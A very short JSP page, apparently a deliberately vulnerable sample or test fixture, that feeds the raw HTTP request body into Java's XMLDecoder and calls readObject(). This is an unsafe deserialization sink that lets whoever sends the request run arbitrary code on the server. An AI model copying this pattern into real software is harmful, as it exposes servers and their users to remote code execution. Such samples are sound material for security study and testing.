<%@ page import="java.beans.XMLDecoder" %><%
XMLDecoder d = new XMLDecoder(request.getInputStream());
Object o = d.readObject();
d.close();
%>
